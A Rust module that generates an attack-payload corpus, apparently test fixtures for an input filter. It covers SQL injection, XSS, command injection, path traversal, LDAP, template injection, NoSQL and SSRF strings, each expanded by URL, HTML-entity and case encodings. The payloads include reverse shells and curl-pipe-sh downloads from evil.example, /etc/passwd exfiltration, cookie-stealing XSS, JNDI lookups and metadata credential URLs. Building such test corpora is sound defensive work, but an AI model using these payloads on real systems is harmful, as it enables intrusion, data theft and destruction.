//! The attack corpus: known payload shapes of each kind expanded by the encodings an attacker
//! wraps them in. Deterministic: `write_attack_corpus` (ignored) writes `corpus/attacks/*.txt`,
//! and `attack_corpus_is_generated` checks that the files are what this code generates.

/// Payload shapes per kind (file name, shapes, encodings that make sense for the kind).
pub fn kinds() -> Vec<(&'static str, Vec<String>, &'static [Encoding])> {
    vec![
        (
            "sqli",
            SQLI.iter().map(|s| (*s).to_owned()).collect(),
            SQL_ENCODINGS,
        ),
        (
            "xss",
            XSS.iter().map(|s| (*s).to_owned()).collect(),
            CASE_ENCODINGS,
        ),
        (
            "cmd",
            CMD.iter().map(|s| (*s).to_owned()).collect(),
            ENCODINGS,
        ),
        (
            "traversal",
            TRAVERSAL.iter().map(|s| (*s).to_owned()).collect(),
            ENCODINGS,
        ),
        (
            "ldap",
            LDAP.iter().map(|s| (*s).to_owned()).collect(),
            CASE_ENCODINGS,
        ),
        (
            "ssti",
            SSTI.iter().map(|s| (*s).to_owned()).collect(),
            ENCODINGS,
        ),
        (
            "nosql",
            NOSQL.iter().map(|s| (*s).to_owned()).collect(),
            ENCODINGS,
        ),
        ("ssrf", ssrf(), &[Encoding::Raw]),
    ]
}

/// The lines of one kind's file: `encoding<TAB>payload`.
pub fn lines(shapes: &[String], encodings: &[Encoding]) -> Vec<String> {
    let mut out = Vec::new();
    for shape in shapes {
        for e in encodings {
            let p = e.apply(shape);
            let line = format!("{}\t{}", e.name(), p);
            if !out.contains(&line) {
                out.push(line);
            }
        }
    }
    out
}

#[derive(Debug, Clone, Copy)]
pub enum Encoding {
    Raw,
    Url,
    UrlAll,
    DoubleUrl,
    Plus,
    HtmlDec,
    HtmlHex,
    JsonUnicode,
    MixedCase,
    SqlComment,
    Tab,
}

const ENCODINGS: &[Encoding] = &[
    Encoding::Raw,
    Encoding::Url,
    Encoding::UrlAll,
    Encoding::DoubleUrl,
    Encoding::Plus,
    Encoding::HtmlDec,
    Encoding::HtmlHex,
    Encoding::JsonUnicode,
];
const CASE_ENCODINGS: &[Encoding] = &[
    Encoding::Raw,
    Encoding::Url,
    Encoding::UrlAll,
    Encoding::DoubleUrl,
    Encoding::Plus,
    Encoding::HtmlDec,
    Encoding::HtmlHex,
    Encoding::JsonUnicode,
    Encoding::MixedCase,
];
const SQL_ENCODINGS: &[Encoding] = &[
    Encoding::Raw,
    Encoding::Url,
    Encoding::UrlAll,
    Encoding::DoubleUrl,
    Encoding::Plus,
    Encoding::HtmlDec,
    Encoding::HtmlHex,
    Encoding::JsonUnicode,
    Encoding::MixedCase,
    Encoding::SqlComment,
    Encoding::Tab,
];

fn special(c: char) -> bool {
    !c.is_ascii_alphanumeric() && c != ' ' && c != '.' && c != '_' && c != '-'
}

impl Encoding {
    pub fn name(self) -> &'static str {
        match self {
            Encoding::Raw => "raw",
            Encoding::Url => "url",
            Encoding::UrlAll => "url-all",
            Encoding::DoubleUrl => "double-url",
            Encoding::Plus => "plus",
            Encoding::HtmlDec => "html-dec",
            Encoding::HtmlHex => "html-hex",
            Encoding::JsonUnicode => "json-unicode",
            Encoding::MixedCase => "mixed-case",
            Encoding::SqlComment => "sql-comment",
            Encoding::Tab => "tab",
        }
    }

    pub fn apply(self, s: &str) -> String {
        match self {
            Encoding::Raw => s.to_owned(),
            Encoding::Url => url(s, |c| special(c) || c == ' '),
            Encoding::UrlAll => url(s, |_| true),
            Encoding::DoubleUrl => url(&url(s, |c| special(c) || c == ' '), |c| c == '%'),
            Encoding::Plus => url(s, special).replace(' ', "+"),
            Encoding::HtmlDec => s
                .chars()
                .map(|c| {
                    if special(c) && c != '%' {
                        format!("&#{};", c as u32)
                    } else {
                        c.to_string()
                    }
                })
                .collect(),
            Encoding::HtmlHex => s
                .chars()
                .map(|c| {
                    if special(c) && c != '%' {
                        format!("&#x{:x};", c as u32)
                    } else {
                        c.to_string()
                    }
                })
                .collect(),
            Encoding::JsonUnicode => s
                .chars()
                .map(|c| {
                    if special(c) && c != '%' && c != '\\' {
                        format!("\\u{:04x}", c as u32)
                    } else {
                        c.to_string()
                    }
                })
                .collect(),
            Encoding::MixedCase => s
                .chars()
                .enumerate()
                .map(|(i, c)| {
                    if i % 2 == 0 {
                        c.to_ascii_uppercase()
                    } else {
                        c.to_ascii_lowercase()
                    }
                })
                .collect(),
            Encoding::SqlComment => s.replace(' ', "/**/"),
            Encoding::Tab => s.replace(' ', "%09"),
        }
    }
}

fn url(s: &str, encode: impl Fn(char) -> bool) -> String {
    let mut out = String::new();
    for c in s.chars() {
        if encode(c) {
            let mut buf = [0u8; 4];
            for b in c.encode_utf8(&mut buf).bytes() {
                out.push_str(&format!("%{b:02X}"));
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// SSRF: hosts in their spellings times URL shapes, then scheme shapes.
fn ssrf() -> Vec<String> {
    let mut out = Vec::new();
    for h in SSRF_HOSTS {
        for t in SSRF_TEMPLATES {
            out.push(t.replace("{h}", h));
        }
    }
    out.extend(SSRF_SCHEMES.iter().map(|s| (*s).to_owned()));
    out
}

const SSRF_HOSTS: &[&str] = &[
    "127.0.0.1",
    "localhost",
    "2130706433",
    "0x7f000001",
    "0x7f.0.0.1",
    "017700000001",
    "0177.0.0.1",
    "127.1",
    "127.0.1",
    "127.127.127.127",
    "0",
    "0.0.0.0",
    "[::1]",
    "[::]",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "[0:0:0:0:0:ffff:127.0.0.1]",
    "[::127.0.0.1]",
    "169.254.169.254",
    "2852039166",
    "0xa9fea9fe",
    "0251.0376.0251.0376",
    "169.254.43518",
    "[fd00:ec2::254]",
    "[::ffff:169.254.169.254]",
    "metadata.google.internal",
    "metadata.google.internal.",
    "metadata",
    "100.100.100.200",
    "10.0.0.1",
    "10.1",
    "172.16.0.1",
    "172.31.255.254",
    "192.168.0.1",
    "192.168.1.1.",
    "100.64.0.1",
    "[fe80::1]",
    "[fc00::1]",
    "localhost.",
    "LOCALHOST",
    "127.0.0.1.nip.io",
    "169.254.169.254.nip.io",
    "app-10-0-0-1.sslip.io",
    "%31%32%37%2e%30%2e%30%2e%31",
    "１２７.０.０.１",
    "①②⑦.⓪.⓪.①",
    "redis",
    "db.internal",
    "kubernetes.default.svc",
    "printer.local",
    "[64:ff9b::7f00:1]",
    "[2002:7f00:1::]",
    "0x7f.0x0.0x0.0x1",
    "0000000177.0.0.1",
    "127.000.000.001",
];

const SSRF_TEMPLATES: &[&str] = &[
    "http://{h}/",
    "https://{h}/admin",
    "http://{h}:8080/internal",
    "http://user@{h}/",
    "http://evil.example@{h}/",
    "http://{h}#@evil.example/",
    "//{h}/",
    "{h}",
    "http://{h}/latest/meta-data/iam/security-credentials/",
    "HTTP://{h}",
    "http://{h}\\@evil.example/",
    "http:\\\\{h}\\x",
    " http://{h}/ ",
];

const SSRF_SCHEMES: &[&str] = &[
    "file:///etc/passwd",
    "file://localhost/etc/passwd",
    "file:/etc/passwd",
    "FILE:///C:/windows/win.ini",
    "gopher://127.0.0.1:6379/_INFO",
    "gopher://evil.example:70/_x",
    "dict://127.0.0.1:11211/stat",
    "dict://evil.example:11211/",
    "ftp://evil.example/x",
    "ftp://anonymous@evil.example/",
    "ldap://evil.example/dc=x",
    "ldaps://evil.example/",
    "jar:http://evil.example/x.jar!/",
    "netdoc:///etc/passwd",
    "tftp://evil.example/x",
    "sftp://evil.example/",
    "php://filter/resource=/etc/passwd",
    "expect://id",
    "data:text/plain,x",
    "javascript:alert(1)",
    "smb://evil.example/share",
    "ssh://evil.example/",
    "telnet://evil.example:23/",
    "ws://127.0.0.1/",
    "mailto:x@evil.example",
];

const SQLI: &[&str] = &[
    "' OR '1'='1",
    "' OR 1=1--",
    "\" OR \"\"=\"",
    "1' OR '1'='1' --",
    "admin'--",
    "admin' #",
    "admin'/*",
    "' OR 1=1#",
    "1 OR 1=1",
    "1' AND 1=1--",
    "1' AND 1=2--",
    "1 AND 1=1",
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL,NULL--",
    "' UNION SELECT username, password FROM users--",
    "1 UNION ALL SELECT 1,2,3--",
    "-1 UNION SELECT @@version--",
    "1'; DROP TABLE users--",
    "1; DROP TABLE users",
    "'; EXEC xp_cmdshell('dir')--",
    "1' AND SLEEP(5)--",
    "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)--",
    "1; WAITFOR DELAY '0:0:5'--",
    "1' AND pg_sleep(5)--",
    "1) OR (1=1",
    "') OR ('1'='1",
    "1' ORDER BY 1--",
    "1' ORDER BY 10--",
    "1' GROUP BY 1,2--",
    "' AND extractvalue(1,concat(0x7e,version()))--",
    "' AND updatexml(1,concat(0x7e,user()),1)--",
    "1' AND 1=CONVERT(int,@@version)--",
    "' OR 'x'='x",
    "' OR ''='",
    "1' OR '1'='1'/*",
    "x' AND email IS NULL; --",
    "' HAVING 1=1--",
    "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
    "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
    "' OR EXISTS(SELECT * FROM users)--",
    "1' INTO OUTFILE '/tmp/x'--",
    "' UNION SELECT load_file('/etc/passwd')--",
    "1;SELECT pg_sleep(5)",
    "1' OR BENCHMARK(1000000,MD5(1))#",
    "') UNION SELECT table_name FROM information_schema.tables--",
    "1 OR 1=1 LIMIT 1",
    "' OR 1 --",
    "1' AND '1'='1",
    "-1' OR 2>1--",
    "1'||(SELECT 1 FROM dual)||'",
    "%' AND 1=1 AND '%'='",
    "1' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "'; SHUTDOWN--",
    "1 AND 5=5",
    "1' RLIKE (SELECT 1)--",
    "' OR username LIKE '%admin%",
    "1' WHERE 1=1 AND 1=0--",
    "admin') OR ('1'='1'--",
    "1' UNION SELECT NULL, table_name FROM all_tables--",
    "'; INSERT INTO users VALUES ('x','y')--",
    "'; UPDATE users SET role='admin' WHERE name='x'--",
    "1 OR SLEEP(5)",
    "' AND 1=0 UNION ALL SELECT 'a',NULL--",
];

const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(document.cookie)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><script>alert(1)</script>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<form action=javascript:alert(1)><input type=submit>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=\"x\" onerror=\"fetch('//evil.example?c='+document.cookie)\">",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<style>@import 'javascript:alert(1)';</style>",
    "<body background=javascript:alert(1)>",
    "<x onclick=alert(1)>click",
    "<audio src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    "<svg><script>alert(1)</script>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<button onclick=alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)>",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<img src=1 onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a>",
    "<div onpointerover=alert(1)>x</div>",
    "<p onmouseenter=alert(1)>x</p>",
];

const CMD: &[&str] = &[
    "; cat /etc/passwd",
    "| cat /etc/passwd",
    "&& cat /etc/passwd",
    "|| id",
    "; id",
    "| id",
    "`id`",
    "$(id)",
    "; whoami",
    "| whoami",
    "&& whoami",
    "`whoami`",
    "$(whoami)",
    "; uname -a",
    "| uname -a",
    "; ls -la",
    "| ls -la /",
    "; sleep 5",
    "| sleep 5",
    "&& sleep 5",
    "`sleep 5`",
    "$(sleep 5)",
    "; ping -c 3 127.0.0.1",
    "| ping -n 3 127.0.0.1",
    "& ping -n 3 127.0.0.1 &",
    "; curl http://evil.example/x.sh | sh",
    "; wget http://evil.example/x -O /tmp/x",
    "| nc -e /bin/sh evil.example 4444",
    "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "; rm -rf /tmp/x",
    "%0aid",
    "%0acat /etc/passwd",
    "a;id",
    "a|id",
    "a&&id",
    "x || whoami",
    ";${IFS}cat${IFS}/etc/passwd",
    "; /bin/cat /etc/passwd",
    "| /usr/bin/id",
    "; echo $PATH",
    "; echo `id`",
    "$(cat /etc/passwd)",
    "& dir c:\\",
    "| type c:\\windows\\win.ini",
    "& net user",
    "; powershell -c Get-Process",
    "| cmd /c dir",
    "; python -c 'import os'",
    "; perl -e 'print 1'",
    "';id;'",
    "\";id;\"",
    "1;sleep${IFS}5",
    "; w'h'o'am'i",
    "; c\"a\"t /etc/passwd",
    "|| ping -c 10 127.0.0.1 ||",
    "; nslookup evil.example",
    "$(nslookup evil.example)",
    "`curl evil.example`",
    "127.0.0.1; cat /etc/shadow",
    "127.0.0.1 && whoami",
    "x.jpg; rm -rf /",
    "file.txt | nc evil.example 80",
    "; ifconfig",
    "| netstat -an",
    "& ipconfig /all",
    "; base64 /etc/passwd",
    "$(curl -d @/etc/passwd evil.example)",
];

const TRAVERSAL: &[&str] = &[
    "../../etc/passwd",
    "../../../etc/passwd",
    "../../../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "..;/..;/etc/passwd",
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "file:///etc/passwd",
    "C:\\windows\\win.ini",
    "c:/boot.ini",
    "../../../../windows/system32/drivers/etc/hosts",
    "../../WEB-INF/web.xml",
    "../../.git/config",
    "../../.ssh/id_rsa",
    "/var/log/apache2/access.log",
    "../../../../etc/passwd%00.png",
    ".../.../.../etc/passwd",
    "..././..././etc/passwd",
    "/../../../../etc/passwd",
    "images/../../../etc/passwd",
    "%2e%2e/%2e%2e/etc/passwd",
    "..%c0%af..%c0%afetc%c0%afpasswd",
    "..\\/..\\/etc/passwd",
    "/./././etc/passwd",
    "../../../../../../../../../../etc/hosts",
    "..\\..\\boot.ini",
    "../../../../proc/version",
    "../../../var/www/.env",
    "../../config/database.yml",
    "../../../../etc/group",
    "..%5c..%5cwindows%5cwin.ini",
    "/etc/passwd%00",
    "../../../etc/passwd#",
    "../../../etc/passwd?x=1",
    "invoice.pdf/../../../../etc/passwd",
    "%252e%252e%252fetc%252fpasswd",
    "..%u2215..%u2215etc%u2215passwd",
    "~/.ssh/id_rsa",
    "/root/.bash_history",
];

const LDAP: &[&str] = &[
    "*)(uid=*))(|(uid=*",
    "*)(|(password=*)",
    "admin)(&)",
    "admin*)((|userpassword=*)",
    "*)(objectClass=*",
    "*))%00",
    "x)(|(cn=*)",
    "*)(&(objectClass=user)",
    "admin)(!(&(1=0",
    "*(|(mail=*))",
    ")(cn=*",
    "*)(sn=*",
    "admin)(|(objectclass=*))",
    "(&(uid=admin)(userPassword=*))",
    "*)(memberOf=cn=admins",
    "x*)(|(description=*",
    "jdoe)(|(telephoneNumber=*",
    "*)(|(&(objectCategory=computer)",
    "*))(|(uid=*",
    "admin)(userPassword=*)",
    "*)(mail=*@*",
    "x)(uid>=0",
    "*)(cn~=admin",
    "*)(!(cn=x)",
    "admin))(|(|",
];

const SSTI: &[&str] = &[
    "{{7*7}}",
    "{{7*'7'}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{config}}",
    "{{config.items()}}",
    "{{self}}",
    "{{request.application.__globals__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{% import os %}{{ os.system('id') }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{T(java.lang.System).getenv()}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "#set($x=7*7)$x",
    "$class.inspect(\"java.lang.Runtime\")",
    "{{=7*7}}",
    "{{constructor.constructor('return process')()}}",
    "${{7*7}}",
    "[[${7*7}]]",
    "@(7*7)",
    "{php}echo `id`;{/php}",
    "{{dump(app)}}",
    "{{app.request.server.all|join(',')}}",
    "${jndi:ldap://evil.example/a}",
    "${jndi:dns://evil.example/a}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "<%= system('id') %>",
    "<%= File.open('/etc/passwd').read %>",
    "{{ ''.__class__ }}",
    "{{range.constructor(\"return global.process\")()}}",
    "${7777+1}",
    "{{settings.SECRET_KEY}}",
    "{{get_flashed_messages.__globals__}}",
    "{{7+7}}",
    "${{<%[%'\"}}%\\.",
    "{{request|attr('application')}}",
    "<%= `id` %>",
    "#{7*'7'}",
    "${{self}}",
];

const NOSQL: &[&str] = &[
    "{\"$ne\": null}",
    "{\"$gt\": \"\"}",
    "{\"$regex\": \".*\"}",
    "{\"$where\": \"sleep(5000)\"}",
    "[$ne]=1",
    "[$regex]=.*",
    "[$gt]=",
    "[$exists]=true",
    "'; return true; var x='",
    "' || '1'=='1",
    "\" || \"1\"==\"1",
    "1; return true",
    "'; while(true){}; '",
    "this.password.match(/.*/)",
    "{\"$or\": [{}, {\"a\":1}]}",
    "{\"username\": {\"$in\": [\"admin\"]}}",
    "{\"$expr\": {\"$eq\": [1, 1]}}",
    "';sleep(5000);'",
    "true, $where: '1 == 1'",
    "$where: function() { return true }",
    "{\"$elemMatch\": {\"$gt\": 0}}",
    "db.getCollection('users').find()",
    "{\"$function\": {\"body\": \"function(){return true}\"}}",
    "[$nin][]=x",
    "username[$ne]=x&password[$ne]=x",
    "{\"$nin\": [\"\"]}",
    "{\"$lt\": \"~\"}",
    "{'$ne': 1}",
    "{$gt: ''}",
    "admin' && this.password.match(/^a/)//",
];
